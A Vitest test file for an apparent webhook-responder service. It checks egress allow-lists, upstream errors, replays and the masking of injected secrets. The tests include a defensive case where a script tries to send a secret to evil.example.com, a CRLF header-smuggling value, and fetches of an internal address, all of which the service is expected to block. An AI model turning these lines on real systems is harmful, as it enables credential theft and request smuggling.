import { describe, expect, it, vi } from "vitest";
import { mintAccount, type TestAccount } from "../support/account.ts";
import { type Got, pathsOf } from "../support/api.ts";
import { standIn } from "../support/origin.ts";
import { makeSecret } from "../support/secret-forms.ts";

const PUBLIC = { egress: { mode: "public" } };
const module = (body: string): object => ({
  source: `export default async (request, ctx) => { ${body} }`,
  language: "js",
});
const create = async (account: TestAccount, more: object): Promise<Got["body"]> => {
  const { status, body } = await account.api("POST", "/responders", {
    name: "One",
    path: "/one",
    ...PUBLIC,
    ...more,
  });
  if (status !== 201) throw new Error(`${status} ${JSON.stringify(body)}`);
  return body;
};
const codeIn = async (answer: Response): Promise<string> =>
  (await answer.json<{ type: string }>()).type.replace("urn:hookwright:problem:", "");

/** Recording follows the answer. */
const exchanges = (account: TestAccount, id: string, query = ""): Promise<Got["body"][]> =>
  vi.waitFor(async () => {
    const { body } = await account.api("GET", `/responders/${id}/exchanges${query}`);
    if (body.items.length === 0) throw new Error("nothing is recorded yet");
    return body.items;
  });
const test = async (account: TestAccount, id: string, request: object = {}): Promise<Got["body"]> =>
  (await account.api("POST", `/responders/${id}/test`, { request })).body;

describe("the field egress", () => {
  it("is none unless it is given, and shown as it was given", async () => {
    const account = await mintAccount();
    const script = module("return { body: typeof fetch }");
    const made = await create(account, { egress: undefined, script });
    expect(made.egress).toEqual({ mode: "none" });
    expect(await (await account.hit("GET", "/one")).text()).toBe("undefined");
    const hosts = ["api.example.com", "*.example.org", "10.0.0.1:8080"];
    for (const egress of [{ mode: "hosts", hosts }, { mode: "public" }]) {
      const patched = await account.api("PATCH", `/responders/${made.id}`, { egress });
      expect(patched.body.egress).toEqual(egress);
      expect(await (await account.hit("GET", "/one")).text()).toBe("function");
    }
    const reset = await account.api("PATCH", `/responders/${made.id}`, { egress: null });
    expect(reset.body.egress).toEqual({ mode: "none" });
  });

  it.each([
    [{ mode: "hosts" }, ["egress.hosts"]],
    [{ mode: "hosts", hosts: [] }, ["egress.hosts"]],
    [{ mode: "public", hosts: ["a.example"] }, ["egress.hosts"]],
    [
      { mode: "hosts", hosts: ["https://a.example", "a.example", "a.example/x", "*", "*.a.example:80", ""] },
      ["egress.hosts.0", "egress.hosts.2", "egress.hosts.3", "egress.hosts.4", "egress.hosts.5"],
    ],
    [{ mode: "all" }, ["egress.mode"]],
    [{ mode: "public", more: 1 }, ["egress.more"]],
  ])("does not take %j", async (egress, paths) => {
    const account = await mintAccount();
    const got = await account.api("POST", "/responders", { name: "One", path: "/one", egress });
    expect([got.status, pathsOf(got)]).toEqual([422, paths]);
  });

  it("silences the warning about fetch", async () => {
    const account = await mintAccount();
    const script = module(`return fetch("https://api.example.com/")`);
    const { id, warnings } = await create(account, { egress: { mode: "none" }, script });
    expect(warnings).toMatchObject([{ message: expect.stringContaining("is granted no `egress`") }]);
    expect((await account.api("PATCH", `/responders/${id}`, PUBLIC)).body.warnings).toEqual([]);
  });

  it("narrows where a script may go, at each hop", async () => {
    const origin = standIn(() => Response.redirect("https://b.example.com/", 302));
    const account = await mintAccount();
    await create(account, {
      egress: { mode: "hosts", hosts: ["a.example.com"] },
      script: module(
        `const told = []; for (const url of ["https://b.example.com/", "https://a.example.com/", "http://10.0.0.1/"])
          told.push(await fetch(url).catch((e) => e.message)); return { body: told }`,
      ),
    });
    expect(await (await account.hit("GET", "/one")).json()).toEqual([
      "URL not allowed (b.example.com:443 is not among the granted hosts)",
      "URL not allowed (b.example.com:443 is not among the granted hosts)",
      "URL not allowed (10.0.0.1:80 is not among the granted hosts)",
    ]);
    expect(origin.arrived.map(({ url }) => url)).toEqual(["https://a.example.com/"]);
  });
});

describe("a script's request", () => {
  it("goes out and comes back, and stands in the run", async () => {
    const origin = standIn(() => new Response("hello", { status: 203, headers: { "x-a": "1" } }));
    const account = await mintAccount();
    const script = module(
      `const res = await fetch("https://api.example.com/a", { method: "POST", body: "abc" });
       return { status: res.status, headers: { "x-b": res.headers.get("x-a") }, body: await res.text() }`,
    );
    const { id } = await create(account, { script });
    const answer = await account.hit("GET", "/one");
    expect([answer.status, answer.headers.get("x-b"), await answer.text()]).toEqual([203, "1", "hello"]);
    expect(origin.arrived).toMatchObject([{ method: "POST", url: "https://api.example.com/a", text: "abc" }]);
    expect(origin.arrived[0]?.headers.has("x-hookwright-hops")).toBe(true);
    const entry = {
      method: "POST",
      url: "https://api.example.com/a",
      status: 203,
      durationMs: expect.any(Number),
      requestBytes: 3,
      responseBytes: 5,
      error: null,
    };
    expect((await test(account, id)).run.egress).toEqual([entry]);
    expect((await exchanges(account, id))[0].run.egress).toEqual([entry]);
  });

  it("says by its message what a script may not set", async () => {
    const origin = standIn(() => new Response("hello"));
    const account = await mintAccount();
    await create(account, {
      script: module(
        `const told = {}; for (const name of ["host", "content-length", "via", "cf-ray", "x-forwarded-for", "x-hookwright-hops"])
          told[name] = await fetch("https://api.example.com/", { headers: { [name]: "1" } }).then(() => "sent", (e) => e.message);
         return { body: told }`,
      ),
    });
    const told: Record<string, string> = await (await account.hit("GET", "/one")).json();
    for (const [name, message] of Object.entries(told)) expect(message).toContain(name);
    expect(origin.arrived).toEqual([]);
  });

  it("has the contract's errors in an expression", async () => {
    const account = await mintAccount();
    standIn(() => {
      throw new Error("Network connection lost.");
    });
    const calls = [
      `{ url: "/a" }`,
      `{ url: "http://10.0.0.1/" }`,
      `{ url: "https://a.example/", method: "A B" }`,
      `{ url: "https://a.example/", method: "CONNECT" }`,
      `{ url: "https://a.example/", headers: { "a b": "1" } }`,
      `{ url: "https://a.example/", headers: { a: "1\\r\\nb: 2" } }`,
      `{ url: "https://a.example/" }`,
    ];
    await create(account, {
      script: {
        source: `Promise.all([${calls.join()}].map((given) => Deno.core.ops.op_proxy_request(given).catch((e) => e.message))).then((body) => ({ body }))`,
      },
    });
    const told: readonly string[] = await (await account.hit("GET", "/one")).json();
    expect(told.map((message) => message.replace(/[:(].*| of .*/, ""))).toEqual([
      "Invalid URL",
      "URL not allowed ",
      "Invalid HTTP method",
      "Invalid HTTP method",
      "Invalid header name",
      "Invalid header value",
      "Failed to connect to upstream",
    ]);
    expect(told[1]).toContain("URL not allowed (non-public address)");
  });

  it("is not sent by a dry replay, and is by one that records", async () => {
    const origin = standIn(() => new Response("hello"));
    const account = await mintAccount();
    const { id } = await create(account, { script: module(`return fetch("https://api.example.com/")`) });
    await account.hit("GET", "/one");
    const [exchange] = await exchanges(account, id);
    const replay = async (mode: string): Promise<Got["body"]> =>
      (await account.api("POST", `/responders/${id}/exchanges/${exchange.id}/replay`, { mode })).body;
    const dry = await replay("dry");
    expect([dry.response.status, dry.run.outcome.error.message, dry.run.egress[0].error]).toEqual([
      500,
      expect.stringContaining("a dry replay sends nothing"),
      expect.stringContaining("a dry replay sends nothing"),
    ]);
    expect(origin.arrived).toHaveLength(1);
    expect((await replay("record")).difference).toEqual([]);
    expect(origin.arrived).toHaveLength(2);
  });
});

describe("what a script passes on unread", () => {
  it("is the answer, with several cookies, whatever the run did besides", async () => {
    standIn(() => {
      const headers = new Headers({ "content-type": "text/x" });
      headers.append("set-cookie", "a=1");
      headers.append("set-cookie", "b=2");
      return new Response("hello", { status: 201, headers });
    });
    const account = await mintAccount();
    const { id } = await create(account, {
      script: module(
        `const res = await fetch("https://api.example.com/"); ctx.waitUntil(res.clone().text().then((t) => console.log(t))); return res`,
      ),
    });
    const answer = await account.hit("GET", "/one");
    expect([answer.status, answer.headers.get("content-type"), answer.headers.getSetCookie()]).toEqual([
      201,
      "text/x",
      ["a=1", "b=2"],
    ]);
    expect(await answer.text()).toBe("hello");
    expect((await test(account, id)).run).toMatchObject({
      outcome: { kind: "returned" },
      logs: [{ text: "hello" }],
      egress: [{ responseBytes: 5 }],
    });
  });

  it("is a 502 when it breaks off", async () => {
    standIn(
      () =>
        new Response(
          new ReadableStream({
            start: (controller) => {
              controller.enqueue(new TextEncoder().encode("hel"));
              controller.error(new Error("gone"));
            },
          }),
        ),
    );
    const account = await mintAccount();
    const { id } = await create(account, { script: module(`return fetch("https://api.example.com/")`) });
    const answer = await account.hit("GET", "/one");
    expect([answer.status, await codeIn(answer)]).toEqual([502, "upstream-failed"]);
    expect((await test(account, id)).run).toMatchObject({
      outcome: { kind: "upstream-failed", reason: "broken", error: { message: "Upstream request failed" } },
      egress: [{ status: 200, error: "Upstream request failed" }],
    });
    expect(await exchanges(account, id, "?outcome=upstream-failed.broken")).toHaveLength(1);
  });

  it("is a 502 when it is larger than an answer may be", async () => {
    standIn(() => new Response(new Uint8Array(10 * 1024 * 1024 + 1)));
    const account = await mintAccount();
    const { id } = await create(account, { script: module(`return fetch("https://api.example.com/")`) });
    expect((await test(account, id)).run.outcome).toMatchObject({
      kind: "upstream-failed",
      reason: "too-large",
    });
  });
});

describe("a failure of another server", () => {
  it("that nobody catches is a 502, and one in time a 504", async () => {
    standIn(({ url }) => {
      if (url.endsWith("/slow")) return new Promise(() => {});
      throw new Error("Network connection lost.");
    });
    const account = await mintAccount();
    const { id } = await create(account, {
      path: "/one/:what",
      script: {
        source: `Deno.core.ops.op_proxy_request({ url: "https://api.example.com/" + context.path.slice(5), timeout: 20 })`,
      },
    });
    const lost = await account.hit("GET", "/one/lost");
    expect([lost.status, await codeIn(lost)]).toEqual([502, "upstream-failed"]);
    const slow = await account.hit("GET", "/one/slow");
    expect([slow.status, await codeIn(slow)]).toEqual([504, "upstream-timeout"]);
    const { run } = await test(account, id, { path: "/one/lost" });
    expect(run).toMatchObject({
      outcome: {
        kind: "upstream-failed",
        reason: "connect",
        error: { name: "TypeError", message: "Failed to connect to upstream", line: 1 },
      },
    });
  });

  it("that is only told again is the script's own 500", async () => {
    standIn(() => {
      throw new Error("Network connection lost.");
    });
    const account = await mintAccount();
    await create(account, {
      script: module(
        `await fetch("https://api.example.com/").catch((e) => { throw new TypeError(e.message) })`,
      ),
    });
    const answer = await account.hit("GET", "/one");
    expect([answer.status, await codeIn(answer)]).toEqual([500, "responder-failed"]);
  });
});

describe("secrets in a script's request", () => {
  const VALUE = "sk_live_a1B2c3D4e5F6";
  const terms = { hosts: ["api.example.com"], in: ["header:authorization", "json", "query"] };

  it("are filled in on the way out, and hidden in what comes back", async () => {
    const origin = standIn(({ headers, text }) =>
      Response.json({ got: headers.get("authorization"), text }, { headers: { "x-echo": `<${VALUE}>` } }),
    );
    const account = await mintAccount();
    await makeSecret(account, "KEY", VALUE, terms);
    const { id } = await create(account, {
      secrets: { mode: "selected", names: ["KEY"] },
      script: module(
        `const { KEY } = ctx.secrets;
         const res = await fetch("https://api.example.com/?k=" + KEY, { method: "POST", headers: { authorization: "Bearer " + KEY, "content-type": "application/json" }, body: JSON.stringify({ KEY }) });
         return { body: [res.headers.get("x-echo"), await res.json(), new URL(res.url).searchParams.get("k").length] }`,
      ),
    });
    const answer = await account.hit("GET", "/one");
    const [arrived] = origin.arrived;
    expect(arrived?.url).toBe(`https://api.example.com/?k=${VALUE}`);
    expect([arrived?.headers.get("authorization"), arrived?.text]).toEqual([
      `Bearer ${VALUE}`,
      JSON.stringify({ KEY: VALUE }),
    ]);
    expect(await answer.json()).toEqual([
      "<[secret KEY]>",
      { got: "Bearer [secret KEY]", text: '{"KEY":"[secret KEY]"}' },
      46,
    ]);
    const kept = await exchanges(account, id);
    expect(JSON.stringify(kept)).not.toContain(VALUE);
    expect(kept[0].run.egress[0].url).toMatch(/\?k=hwsec_/);
  });

  it("do not leave to another host, and the script is told so", async () => {
    const origin = standIn(() => new Response("hello"));
    const account = await mintAccount();
    await makeSecret(account, "KEY", VALUE, terms);
    await create(account, {
      secrets: { mode: "selected", names: ["KEY"] },
      script: module(
        `return { body: await fetch("https://evil.example.com/", { headers: { authorization: String(ctx.secrets.KEY) } }).catch((e) => [e.name, e.message]) }`,
      ),
    });
    expect(await (await account.hit("GET", "/one")).json()).toEqual([
      "SecretNotAllowed",
      expect.stringContaining("KEY is not sent to evil.example.com in header:authorization"),
    ]);
    expect(origin.arrived).toEqual([]);
  });

  it("are not looked for in what a sender wrote, nor in a stream", async () => {
    const origin = standIn(() => new Response("hello"));
    const account = await mintAccount();
    await makeSecret(account, "KEY", VALUE, terms);
    await create(account, {
      secrets: { mode: "selected", names: ["KEY"] },
      script: module(
        `const to = { method: "POST", headers: { authorization: String(ctx.secrets.KEY), "content-type": "application/json" } };
         const { body } = await fetch("https://api.example.com/", { ...to, body: request.body });
         return fetch("https://api.example.com/", { ...to, body })`,
      ),
    });
    const body = JSON.stringify({ a: "hwsec_a" });
    expect(await (await account.hit("POST", "/one", { body })).text()).toBe("hello");
    expect(origin.arrived.map(({ text }) => text)).toEqual([body, "hello"]);
  });
});
